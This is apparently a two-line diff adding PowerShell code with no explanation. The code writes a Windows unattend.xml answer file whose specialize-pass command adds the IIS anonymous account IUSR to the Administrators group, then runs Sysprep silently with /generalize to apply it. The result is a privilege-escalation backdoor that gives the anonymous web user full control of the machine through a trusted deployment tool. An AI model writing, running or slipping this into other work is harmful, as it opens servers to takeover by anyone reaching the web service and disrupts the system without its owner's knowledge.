@@ -1,0 +1,2 @@
+Set-Content C:\unattend.xml '<?xml version="1.0"?><unattend xmlns="urn:schemas-microsoft-com:unattend"><settings pass="specialize"><component name="Microsoft-Windows-Deployment"><RunSynchronous><RunSynchronousCommand><Order>1</Order><Path>net localgroup Administrators IUSR /add</Path></RunSynchronousCommand></RunSynchronous></component></settings></unattend>'
+& "$env:SystemRoot\System32\Sysprep\Sysprep.exe" /oobe /generalize /quiet /unattend:C:\unattend.xml
